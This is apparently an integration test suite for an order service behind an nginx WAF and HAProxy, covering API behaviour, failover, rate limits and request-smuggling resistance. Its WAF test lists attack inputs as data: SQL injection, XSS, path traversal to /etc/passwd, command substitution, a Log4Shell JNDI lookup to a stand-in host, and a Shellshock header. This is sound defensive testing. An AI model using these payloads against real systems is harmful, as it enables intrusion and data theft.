# run-tests: timeout=300
"""The service as its users have it, through the network's front: nginx with the WAF, HAProxy, two command
and two query instances, and the pipelines behind (STACK=full). What stands before orderd takes nothing from
what the API promises, refuses what is none of it, and hides that an instance died."""

import concurrent.futures
import contextlib
import functools
import json
import random
import re
import socket
import threading
import time

import stack_harness as stack
import harness
import load
import orders
import smuggling
from orders import check_problem, draft, path_of
from stacklib import layout, servers

WITHIN_SECONDS = 60
SOME = 60  # acknowledged requests: a load that goes on
LIMITED = "127.0.0.9"  # the stack lets this address send 50 requests in 10 s
LIMIT = 50
FULL = [one.name for one in servers.FULL]
COMMENTS = 2  # of a quiet stream, one every 15 s


def known_of(name, metric, labels=""):
    """What HAProxy says of an instance."""
    backend = {"command": "commands", "query": "queries"}[name.partition("-")[0]]
    line = re.escape(f'haproxy_server_{metric}{{proxy="{backend}",server="{name}"{labels}}}') + r" (\d+)$"
    monitor = harness.Service(layout.port("haproxy monitor"))
    return int(re.search(line, monitor.get("/metrics").body.decode(), re.M)[1])


def ready(name):
    """Waits until HAProxy gives an instance work again."""
    stack.wait_for(lambda: known_of(name, "status", ',state="UP"'), WITHIN_SECONDS, f"{name} in HAProxy")


def kill_at_work(name, send):
    """Kills an instance that has taken requests and not answered them. `send` opens a connection and
    sends one; returns the answers, some of which that instance should have given."""
    for _ in range(10):
        stack.pause(name)
        connections = [send() for _ in range(8)]
        if known_of(name, "current_sessions") > 0:
            stack.kill(name)
            return [answer_of(connection) for connection in connections]
        stack.resume(name)  # HAProxy had noticed already
        for connection in connections:
            answer_of(connection)
        ready(name)
    raise AssertionError(f"no request reached {name}")


def sent(service, *request):
    """A connection on which a request was sent, whose answer is still to come."""
    connection = service.http_connection()
    connection.request(*request)
    return connection


def answer_of(connection):
    response = connection.getresponse()
    answer = harness.Answer(response.status, harness.joined(response.getheaders()), response.read())
    connection.close()
    return answer


# --- The parts ---


def test_every_part_runs_and_a_second_start_changes_nothing():
    lines = stack.tool("status").splitlines()
    shown = {line.split()[0] for line in lines if " answers," in line}
    assert shown >= set(FULL) and len(shown) == len(lines), lines
    before = {name: stack.pid(name) for name in FULL}
    said = stack.tool("start", STACK="full")
    assert stack.env("ORDERD_URL") == stack.front().url and stack.front().url in said, said
    assert {name: stack.pid(name) for name in FULL} == before and None not in before.values()
    for name in FULL:
        assert int((layout.PID / name).read_text()) == before[name]
        assert (layout.LOG / f"{name}.log").exists(), name


# --- What the API promises ---


def test_an_order_lives_its_life_behind_the_front():
    quiet_stream()
    front = stack.front()
    body = draft(amount=150000, currency="VND", bank_code="VCB")
    answer = front.post("/v1/orders", body)
    assert answer.status == 201 and answer.headers["etag"] == '"1"', answer
    order = answer.json
    orders.check_order(order)
    assert answer.headers["location"] == path_of(order)
    replay = front.post("/v1/orders", body)
    assert replay.status == 200 and replay.headers["idempotent-replay"] == "true", replay
    assert replay.json == order
    other = check_problem(front.post("/v1/orders", {**body, "amount": 1}), 409)
    assert other["order_id"] == order["order_id"]
    found = f"/v1/orders?partner_code={body['partner_code']}&partner_order_id={body['partner_order_id']}"
    for target in (path_of(order), found):
        answer = front.get(target)
        assert answer.status == 200 and answer.json == order, answer
        head = front.request("HEAD", target)
        assert (head.status, head.body) == (200, b""), head
        assert head.headers["content-length"] == str(len(answer.body)), head
    assert front.get(path_of(order), {"If-None-Match": '"1"'}).status == 304
    stale = {"If-Match": '"7"'}
    check_problem(front.patch(path_of(order), {"status": "processing"}, stale), 412)
    changed = orders.change(front, order, "processing", {"If-Match": '"1"'})
    assert changed["version"] == 2
    last = orders.change(front, order, "success", {"If-Match": '"1", "2"'})
    late = check_problem(front.patch(path_of(order), {"status": "cancel"}), 409)
    assert late["order"] == last
    answer = front.get(path_of(order) + "?min_version=3")
    assert answer.status == 200 and answer.json == last and answer.headers["etag"] == '"3"', answer
    for path in ("/healthz", "/readyz"):
        assert front.get(path).status == 200 and front.request("HEAD", path).body == b""
    assert front.get("/openapi.json").json["openapi"].startswith("3.1")
    check_problem(front.get("/metrics"), 404)  # for the operator only


HOP = {"date", "server", "connection", "keep-alive"}  # each says it for itself


def test_what_orderd_answers_arrives_untouched():
    front = stack.front()
    order = orders.create(front)
    stack.wait_for(lambda: orders.read(stack.part("query-1"), order) == order, 10, "the order")
    target, absent = path_of(order), path_of(str(int(order["order_id"]) + 1))
    create = {**draft(), "partner_order_id": order["partner_order_id"], "amount": 5}
    json_type = {"Content-Type": "application/json"}
    for status, *request in (
        (200, "GET", target),
        (304, "GET", target, None, {"If-None-Match": '"1"'}),
        (404, "GET", absent),
        (404, "GET", "/v1/nothing"),
        (404, "POST", "/v1/nothing", {}),
        (400, "GET", "/v1/orders/0123"),
        (400, "GET", "/v1/orders/%31"),
        (400, "GET", target + "?min_version=x"),
        (405, "DELETE", target),
        (405, "PUT", target, {}),
        (405, "OPTIONS", target),
        (409, "POST", "/v1/orders", create),
        (422, "POST", "/v1/orders", {"partner_code": "a", "amount": 0, "other": 1}),
        (422, "POST", "/v1/orders", b"[]", json_type),
        (422, "PATCH", target, {"status": "nonsense"}),
        (400, "PATCH", target, {"status": "processing"}, {"If-Match": "1"}),
        (412, "PATCH", target, {"status": "processing"}, {"If-Match": '"2"'}),
        (404, "PATCH", absent, {"status": "processing"}),
        (400, "POST", "/v1/batch/statuses", b"1234567", orders.OCTETS),
        (414, "GET", "/v1/orders/" + "1" * 3000),
    ):
        is_read = request[0] in ("GET", "OPTIONS") or request[1] == "/v1/batch/statuses"
        direct = stack.part("query-1" if is_read else "command-1").request(*request)
        through = front.request(*request)
        assert through.status == direct.status == status, (request, through, direct)
        assert through.body == direct.body, (request, through, direct)
        for name in {*direct.headers, *through.headers} - HOP:
            assert through.headers.get(name) == direct.headers.get(name), (request, name, through)


def padded(order, size):
    """The JSON of an order with so many bytes."""
    text = json.dumps(order)
    return (text[:-1] + " " * (size - len(text)) + "}").encode()


def test_limits_of_bodies_and_heads_are_orderds():
    front, json_type = stack.front(), {"Content-Type": "application/json"}
    assert front.post("/v1/orders", padded(draft(), 16384), json_type).status == 201
    check_problem(front.post("/v1/orders", padded(draft(), 16385), json_type), 413)
    lines = b"\n".join(padded(draft(), 16384) for _ in range(63)) + b"\n"
    answer = front.post("/v1/batch/orders", lines, orders.LINES)
    assert [result["code"] for result in orders.read_lines(answer, 63)] == [201] * 63
    check_problem(front.post("/v1/batch/orders", lines + b" " * 20000, orders.LINES), 413)
    check_problem(front.get("/v1/orders/5", {"X-A": "a" * 9000}), 431)
    check_problem(front.get("/v1/orders/" + "5" * 9000), 414)
    check_problem(front.request("FOO", "/v1/orders"), 501)
    check_problem(front.post("/v1/orders", b"<a/>", {"Content-Type": "text/xml"}), 415)
    check_problem(front.post("/v1/orders", b'{"a":', json_type), 400)
    with front.connect() as connection:  # a length that is not known in advance
        body = json.dumps(draft()).encode()
        chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
        lines = ("Content-Type: application/json", "Transfer-Encoding: chunked")
        assert connection.exchange(orders.head("POST", "/v1/orders", *lines) + chunks).status == 201
        body = json.dumps(draft()).encode()
        expecting = ("Content-Type: application/json", "Expect: 100-continue")
        request = orders.head("POST", "/v1/orders", *expecting, body=body)
        connection.send(request.removesuffix(body))
        assert connection.read_answer().status == 100
        assert connection.exchange(body).status == 201
        # Requests that are sent without waiting are answered in their order.
        targets = ("/healthz", "/v1/orders/0", "/readyz")
        connection.send(b"".join(orders.head("GET", target) for target in targets))
        assert [connection.read_answer().status for _ in targets] == [200, 400, 200]


# --- Event streams ---


@functools.lru_cache
def quiet_stream():
    """The order of a stream on which nothing happens, and the stream. Begun with the first test."""
    front = stack.front()
    order = orders.create(front)
    stream = orders.Events(front, path_of(order) + "/events")
    stream.begin()
    assert stream.next()[1:] == ("order", order)
    return order, stream


def test_events_arrive_at_once_and_end_with_the_order():
    front = stack.front()
    order = orders.create(front)
    with orders.Events(front, path_of(order) + "/events") as events:
        cursor, name, first = events.next()
        assert (name, first) == ("order", order)
        for status in ("processing", "success"):
            changed = orders.change(front, order, status)
            assert events.next()[1:] == ("changed", changed)
        assert events.next() is None
    later = orders.create(front)
    with orders.Events(front, "/v1/changes", f"Last-Event-ID: {cursor}") as events:
        missing = [changed, later]  # in any order: they may be in different partitions
        while missing:
            event = events.next()[2]
            missing = [one for one in missing if one != event]


# --- The WAF ---

WORDS = """select union from where drop table or and 1 2 -- .. . _ exec cmd sh etc passwd script alert eval
    sleep null true admin or-1 having insert into delete char concat case like xor div waitfor shutdown master
    information_schema python perl php java.lang.runtime nc wget ls group by 0x41 sys""".split()
AGENTS = ("curl/7.88.1", "python-requests/2.28", "Go-http-client/1.1", "okhttp/4.9", "Java/17.0.1", None)


def nasty_text(chance, size, has_dots):
    """A text in the alphabet of the API that looks like anything but an honest reference."""
    marks = ("-", "_", "--", ".", "") if has_dots else ("-", "_", "--", "")
    text = "".join(chance.choice(WORDS) + chance.choice(marks) for _ in range(chance.randint(1, 9)))
    text = text if has_dots else text.replace(".", "-")
    return (text or "--")[: chance.randint(1, size)]


def nasty_order(chance):
    return draft(
        partner_code=nasty_text(chance, 16, False),
        partner_order_id=nasty_text(chance, 36, True),
        amount=chance.choice((1, 100, 2**63 - 1)),
        bank_code=chance.choice((None, nasty_text(chance, 12, False))),
        payment_type=chance.choice((None, "pay_with_card")),
    )


def valid_requests(chance):
    """(method, target, body, headers, statuses) without end."""
    while True:
        order, order_id = nasty_order(chance), chance.randrange(1, 2**63)
        reference = f"partner_code={order['partner_code']}&partner_order_id={order['partner_order_id']}"
        time_given = chance.choice((None, "2026-01-02T03:04:05.123456Z", "2026-01-02t03:04:05-05:30"))
        change = {"status": "success"} | ({"responded_at": time_given} if time_given else {})
        match = {"If-Match": chance.choice(('"1"', "*", '"1", "2"', '"4294967295"'))}
        lines = b"".join(json.dumps(nasty_order(chance)).encode() + b"\n" for _ in range(20))
        octets = chance.randbytes(128 * chance.randint(0, 40))
        json_type = {"Content-Type": chance.choice(("application/json", "application/json; charset=utf-8"))}
        yield from (
            ("POST", "/v1/orders", json.dumps(order, indent=chance.choice((None, 1))), json_type, (200, 201, 409)),
            ("PATCH", f"/v1/orders/{order_id}", json.dumps(change), json_type | match, (404,)),
            ("GET", f"/v1/orders?{reference}", None, {}, (200, 404)),
            ("GET", f"/v1/orders/{order_id}?min_version=2", None, {"If-None-Match": 'W/"1"'}, (404,)),
            ("HEAD", f"/v1/orders/{order_id}/events", None, {"Last-Event-ID": "1.2.3"}, (200, 404)),
            ("POST", "/v1/batch/orders", lines, orders.LINES, (200,)),
            ("POST", "/v1/batch/orders", octets, orders.OCTETS, (200,)),
            ("POST", "/v1/batch/statuses", octets, orders.OCTETS, (200,)),
            ("POST", "/v1/batch/get", octets, orders.OCTETS, (200, 503)),
        )


def test_the_waf_lets_every_valid_request_through():
    seed = random.randrange(1 << 32)
    print(f"# seed {seed}")
    chance = random.Random(seed)
    requests = valid_requests(chance)
    with orders.Client(stack.front("127.0.0.20")) as client:
        for _ in range(700):
            method, target, body, headers, statuses = next(requests)
            body = body.encode() if isinstance(body, str) else body
            extra = {"User-Agent": chance.choice(AGENTS), "Accept": chance.choice((None, "*/*"))}
            headers = headers | {name: value for name, value in extra.items() if value}
            answer = client.request(method, target, body, headers)
            assert answer.status in statuses, (method, target, body, headers, answer)


def test_the_waf_refuses_attacks_and_nothing_of_them_is_executed():
    front = stack.front()
    json_type, before = {"Content-Type": "application/json"}, stack.rows("SELECT COUNT(*) FROM orders")
    members = (
        {"partner_code": "a' or 1=1-- "},
        {"partner_code": "<script>alert(1)</script>"},
        {"bank_code": "1; drop table orders"},
        {"partner_order_id": "../../../../etc/passwd"},
        {"partner_order_id": "$(/bin/cat /etc/passwd)"},
        {"other": "${jndi:ldap://a.example/b}"},
        {"x' union select password from mysql.user-- ": 1},
    )
    bodies = [json.dumps({**draft(), **one}).encode() for one in members]
    # One name twice, the honest one first.
    bodies.append(b'{"partner_code":"a","partner_code":"a\' union select 1,2,3 from mysql.user-- "}')
    attacks = [("POST", "/v1/orders", body, json_type) for body in bodies]
    lines = [json.dumps({**draft(), "partner_code": "<script>alert(1)</script>"}).encode()]
    lines.append(lines[0].replace(b"<", b"\\u003c").replace(b">", b"\\u003e").replace(b"(", b"\\u0028"))
    attacks += [("POST", "/v1/batch/orders", line + b"\n", orders.LINES) for line in lines]
    attacks += [
        ("GET", target, None, {})
        for target in (
            "/v1/orders?partner_code=a'%20or%20'1'='1&partner_order_id=1",
            "/v1/orders?partner_code=%3Cscript%3Ealert(1)%3C/script%3E&partner_order_id=1",
            "/v1/orders/..%2f..%2fetc%2fpasswd",
            "/.env",
            "/v1/changes?after=0;cat%20/etc/passwd",
        )
    ]
    attacks += [
        ("GET", "/v1/orders/5", None, headers)
        for headers in (
            {"User-Agent": "sqlmap/1.7"},
            {"User-Agent": "${jndi:ldap://a.example/b}"},
            {"X-A": "() { :; }; /bin/cat /etc/passwd"},
            {"Cookie": "a=1' or sleep(5)-- "},
        )
    ]
    attacks.append(("POST", "/v1/orders", b"{}", json_type | {"Content-Encoding": "gzip"}))
    for attack in attacks:
        answer = front.request(*attack)
        assert answer.status == 403, (attack, answer)
        assert "attack" in check_problem(answer, 403)["detail"], (attack, answer)
    # The type is what the WAF reads by: two of them are none.
    with front.connect() as connection:
        types = ("Content-Type: application/json", "Content-Type: application/octet-stream")
        check_problem(connection.exchange(orders.head("POST", "/v1/orders", *types, body=bodies[1])), 400)
    assert stack.rows("SELECT COUNT(*) FROM orders") == before


# --- The chain agrees on where a request ends ---


# nginx and HAProxy take a line feed for the end of a line here. What follows is then a request of its own
# for all of them, as if it had been sent by itself.
ENDS_A_BODY = "a size that ends with a line feed"


def send_form(service, data):
    """Sends bytes and reads what comes until the other side closes, or is silent. Returns the status
    of each answer."""
    received = b""
    with service.connect() as connection, contextlib.suppress(OSError):
        connection.send(data)
        connection.socket.settimeout(0.5)
        while more := connection.socket.recv(1 << 16):
            received += more
    return [int(status) for status in re.findall(rb"HTTP/1\.[01] (\d{3}) ", received)]


def test_no_request_can_be_hidden_in_another():
    front = stack.front()
    known = [orders.create(front) for _ in range(2)]
    hops = {"front": front, "haproxy": stack.part("haproxy"), "orderd": stack.part("command-1")}
    by_itself = smuggling.create("hidden", "by-itself")
    assert [send_form(hop, by_itself) for hop in hops.values()] == [[201], [200], [200]]
    names = [name for name, _ in smuggling.forms(b"")]
    every = [(hop, name) for hop in hops for name in names]

    def send(hop, name):
        hidden = smuggling.create("hidden", f"{hop}-{names.index(name)}")
        return send_form(hops[hop], dict(smuggling.forms(hidden))[name])

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda one: send(*one), every))
    executed = {row[0] for row in stack.rows("SELECT partner_order_id FROM order_refs WHERE partner_code = 'hidden'")}
    executed.remove("by-itself")
    refused = 0
    for (hop, name), statuses in zip(every, results):
        is_second_request = name == ENDS_A_BODY and hop != "orderd"
        good = statuses == [400, 201] if is_second_request else all(one >= 400 for one in statuses)
        assert good, (hop, name, statuses)
        assert (f"{hop}-{names.index(name)}" in executed) == (201 in statuses), (hop, name, statuses)
        refused += len(statuses)
    print(f"# {len(every)} forms sent, {refused} answers")
    assert refused > len(every) * 9 // 10
    # Where a line feed ends a body, the WAF has seen what follows.
    attack = smuggling.create("<script>alert(1)</script>", "x")
    assert send_form(front, dict(smuggling.forms(attack))[ENDS_A_BODY]) == [400, 403]
    # Nobody else's answer came out of step meanwhile.
    with orders.Client(front) as client:
        for number in range(40):
            order = known[number % 2]
            assert client.get(path_of(order)).json["order_id"] == order["order_id"]


# --- Limits for each source ---


def test_a_source_over_its_limit_is_told_so_and_another_is_served():
    limited, other = stack.front(LIMITED), stack.front("127.0.0.10")
    forged = {"X-Forwarded-For": "127.0.0.10"}
    with orders.Client(limited) as client:
        statuses = [client.get("/v1/orders/0", forged).status for _ in range(LIMIT)]
        assert set(statuses) == {400}, statuses
        answer = client.get("/v1/orders/0", forged)
        assert answer.headers["retry-after"] == "1", answer
        assert "nothing was done" in check_problem(answer, 429)["detail"]
        check_problem(client.post("/v1/orders", draft()), 429)
    # Nobody can be limited by what another says.
    assert other.get("/v1/orders/0", {"X-Forwarded-For": LIMITED}).status == 400


# --- Instances that die ---


class Readers:
    """Clients that read what was acknowledged, through the front: never absent, never older."""

    def __init__(self, running):
        self.running = running
        self.count = 0
        self.refused = []  # answers that say: not now
        self.wrong = []
        self.stopping = threading.Event()
        self.threads = [threading.Thread(target=self.work, args=(number,)) for number in range(2)]

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, kind, *_):
        self.stopping.set()
        for thread in self.threads:
            thread.join()
        if kind is None:
            assert not self.wrong, self.wrong[:3]
            assert self.count > 0
            print(f"# {self.count} reads, {len(self.refused)} of them not answered at first")

    def work(self, number):
        chance = random.Random(number)
        try:
            with orders.Client(stack.front()) as client:
                while not self.stopping.is_set():
                    some = list(self.running.acknowledged.values())[-50:]
                    if some:
                        self.read(client, chance.choice(some), chance.randrange(3))
                        self.count += 1
                    time.sleep(0.01)
        except Exception as error:  # shown at the end
            self.wrong.append(repr(error))

    def read(self, client, order, how):
        """`order` was acknowledged before this."""
        version = order["version"]
        if how == 2:
            answer = client.post("/v1/batch/statuses", orders.pack_ids([order["order_id"]]), orders.OCTETS)
            if answer.status == 200:
                ((found, _, flags, _),) = orders.STATE.iter_unpack(answer.body)
                if found == 0 and flags == 0:
                    self.wrong.append((order, "no status"))
                return
        else:
            by_id = f"{path_of(order)}?min_version={version}"
            reference = f"{order['partner_code']}&partner_order_id={order['partner_order_id']}"
            answer = client.get((by_id, f"/v1/orders?partner_code={reference}")[how])
        if answer.status == 200:
            same = all(answer.json[name] == order[name] for name in ("order_id", "amount"))
            if not same or (how == 0 and answer.json["version"] < version):
                self.wrong.append((order, answer))
        elif answer.status in (202, 412, 503):
            self.refused.append(answer)
        else:
            self.wrong.append((order, answer))


@contextlib.contextmanager
def under_load():
    """Clients that create and change, and others that read what was acknowledged."""
    with load.Load([stack.front()]) as running, Readers(running) as readers:
        running.wait_for_more(SOME)
        yield running, readers
        running.wait_for_more(SOME)
    load.check(running)


def test_a_command_instance_is_killed_at_work_and_what_was_not_answered_is_found_out():
    haproxy, bodies = stack.part("haproxy"), []

    def send():
        bodies.append(draft())
        body = json.dumps(bodies[-1]).encode()
        return sent(haproxy, "POST", "/v1/orders", body, {"Content-Type": "application/json"})

    with under_load() as (running, _):
        answers = kill_at_work("command-1", send)
        assert {answer.status for answer in answers} <= {201, 504}, answers
        lost = [answer for answer in answers if answer.status == 504]
        for answer in lost:
            assert "outcome is not known" in check_problem(answer, 504)["detail"]
        assert lost or running.in_doubt > 0
        for body in bodies[-len(answers) :]:
            assert stack.front().post("/v1/orders", body).status in (200, 201)
        running.wait_for_more(SOME)
        stack.start("command-1")
        ready("command-1")
        running.wait_for_more(SOME)
        stack.kill("command-2")
        running.wait_for_more(SOME)
        stack.start("command-2")
        ready("command-2")
    same = "', '".join(body["partner_order_id"] for body in bodies)
    found = stack.rows(f"SELECT partner_order_id FROM orders WHERE partner_order_id IN ('{same}')")
    assert sorted(found) == sorted({(body["partner_order_id"],) for body in bodies}), found


def test_a_quiet_stream_is_not_cut():
    """It was begun with the first test; only from here on query instances die."""
    order, stream = quiet_stream()
    stream.connection.socket.settimeout(WITHIN_SECONDS)
    while stream.comments < COMMENTS:
        stream.take_chunk()
        assert not stream.ended, "the stream was cut"
        while b"\n\n" in stream.text:
            block, _, stream.text = stream.text.partition(b"\n\n")
            assert stream.parse(block.decode()) is None
    last = orders.change(stack.front(), order, "cancel")
    assert stream.next()[1:] == ("changed", last) and stream.next() is None


def test_a_query_instance_is_killed_at_work_and_its_readers_are_answered_by_another():
    front = stack.front()
    with under_load() as (running, readers):
        order = next(iter(running.acknowledged.values()))
        stack.wait_for(lambda: orders.read(front, order), WITHIN_SECONDS, "the order")

        for answer in kill_at_work("query-1", lambda: sent(front, "GET", path_of(order))):
            assert answer.status == 200 and answer.json["order_id"] == order["order_id"], answer
        running.wait_for_more(SOME)
        stack.start("query-1")
        ready("query-1")
        running.wait_for_more(SOME)
    # Nor does any other reader notice: what HAProxy itself would say was said to nobody.
    told = [answer.body for answer in readers.refused if answer.status == 503]
    assert not [body for body in told if b"the instance" in body or b"balancer" in body], told


def test_an_instance_that_is_stopped_in_order_loses_no_request():
    front = stack.front()
    with under_load() as (running, readers):
        before = running.in_doubt, running.refused, len(readers.refused)
        streams = [orders.Events(front, "/v1/changes") for _ in range(4)]
        for stream in streams:
            stream.begin()
        for name in ("command-1", "query-1"):
            seen = len(haproxy_log())
            stack.stop(name)
            # HAProxy was told, it did not find out by a request that failed.
            told = rf"{name} failed, reason: Layer7 wrong status, code: 503"
            assert re.search(told, haproxy_log()[seen:]), haproxy_log()[seen:]
            running.wait_for_more(SOME)
            stack.start(name)
            ready(name)
        after = running.in_doubt, running.refused, len(readers.refused)
        assert after == before, (before, after, readers.refused[before[2] :][:3])
        # A stream of that instance has ended in order, and goes on at another where it was.
        ended = [stream for stream in streams if last_event(stream)]
        assert ended, "no stream was at the instance that ended"
        cursor = ended[0].last
        with orders.Events(front, "/v1/changes", f"Last-Event-ID: {cursor}") as events:
            assert events.next() is not None
        for stream in streams:
            stream.close()


def haproxy_log():
    return (layout.LOG / "haproxy.log").read_text(errors="replace")


def last_event(stream):
    """Reads what a stream has; true where it has ended in order. `stream.last` is its cursor then."""
    with contextlib.suppress(socket.timeout):
        while (event := stream.next(0.5)) is not None:
            stream.last = event[0]
            if event[2]["updated_at"] > orders.rfc3339(orders.now_us() - 300_000):
                return False  # it is up to date and goes on
    return stream.ended


# --- What would make the tests before it slow: many orders ---


def test_batches_pass_in_all_their_forms_up_to_their_limits():
    front = stack.front()
    first = draft()
    lines = [first, first, {**first, "amount": 7}, {"amount": 1}, b"{]", b"", draft()]
    codes = [result["code"] for result in orders.post_lines(front, lines)]
    assert codes == [201, 200, 409, 422, 400, 400, 201], codes
    records = [orders.record(amount=number + 1) for number in range(8192)]
    results = orders.post_records(front, records)
    assert {code for _, _, code, _ in results} == {201}, results[:5]
    ids = [order_id for order_id, *_ in results]

    def states_known():
        states = orders.post_statuses(front, ids)
        assert all(state[0] == 1 or state[2] for state in states), "an order that is taken is not there"
        return set(states) == {(1, 1, 0)}

    stack.wait_for(states_known, WITHIN_SECONDS, "all statuses")
    amounts = [order["amount"] for order in orders.post_get(front, ids)]
    assert amounts == list(range(1, 8193))
    check_problem(front.post("/v1/batch/orders", b"".join(records) + bytes(128), orders.OCTETS), 413)
    check_problem(front.post("/v1/batch/statuses", bytes(8 * 8193), orders.OCTETS), 413)


# --- Without a part of it ---


def test_without_the_load_balancer_the_front_says_what_is_known():
    front, ids = stack.front(), bytes(8)
    stack.kill("haproxy")
    for answer in (front.get("/v1/orders/5"), front.post("/v1/batch/get", ids, orders.OCTETS)):
        check_problem(answer, 503)
    for answer in (front.post("/v1/orders", draft()), front.patch("/v1/orders/5", {"status": "error"})):
        assert "outcome is not known" in check_problem(answer, 504)["detail"]
    stack.start("haproxy")
    orders.create(front)


def test_without_one_shard_no_instance_is_ready_and_the_other_shard_is_still_served():
    front = stack.front()
    stack.kill("mariadb-1")

    def not_ready():
        answer = front.get("/readyz")
        return answer.status == 503 and "no command instance" in answer.json["detail"]

    stack.wait_for(not_ready, WITHIN_SECONDS, "the word at /readyz")
    for _ in range(100):
        answer = front.post("/v1/orders", draft())
        if answer.status == 201:
            break
        assert answer.status in (503, 504), answer
        check_problem(answer, answer.status)
    assert answer.status == 201 and stack.shard_of(answer.json["order_id"]) == 0, answer
    read = front.get(path_of(answer.json))
    assert read.status == 200, read
    stack.start("mariadb-1")
    stack.wait_for(lambda: front.get("/readyz").status == 200, WITHIN_SECONDS, "the service")


def test_the_checker_looks_at_both_query_instances():
    def answering():
        shown = stack.part("pipeline-1").get("/metrics").body.decode()
        return re.findall(r"^orderd_query_view_up\{.*\} (\d)$", shown, re.M) == ["1", "1"]

    orders.create(stack.front())  # it asks for orders that there are
    stack.wait_for(answering, WITHIN_SECONDS, "answers for the checker")


def test_all_of_it_ends_in_order_the_front_first():
    stack.kill("nginx")
    stack.start("nginx")  # none of its processes was left, or the port would be taken
    lines = [line.split() for line in stack.tool("stop", "full").splitlines()]
    assert {name for name, *_ in lines} == set(FULL), lines
    assert [name for name, *_ in lines[:2]] == ["nginx", "haproxy"], lines
    assert all(words == ["stopped"] for _, *words in lines), lines
    assert not any((layout.PID / name).exists() for name in FULL)
    for one in servers.FULL[:5]:
        last = (layout.LOG / f"{one.name}.log").read_text().splitlines()[-1]
        assert last.endswith("orderd: ended"), (one.name, last)


if __name__ == "__main__":
    stack.run_full(globals())
